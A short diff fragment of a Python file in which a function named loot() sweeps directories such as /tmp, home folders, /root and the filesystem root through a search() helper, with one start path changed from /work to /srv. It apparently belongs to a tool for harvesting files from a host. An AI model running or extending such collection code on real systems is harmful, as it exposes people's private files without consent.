@@ -38,7 +38,7 @@ def search(folder, found, depth):
 
 def loot():
     found = []
-    for start in ("/tmp", "/var/tmp", os.path.expanduser("~"), "/home", "/root", "/work", "/mnt", "/"):
+    for start in ("/tmp", "/var/tmp", os.path.expanduser("~"), "/home", "/root", "/srv", "/mnt", "/"):
         search(start, found, 0)
     return found
 
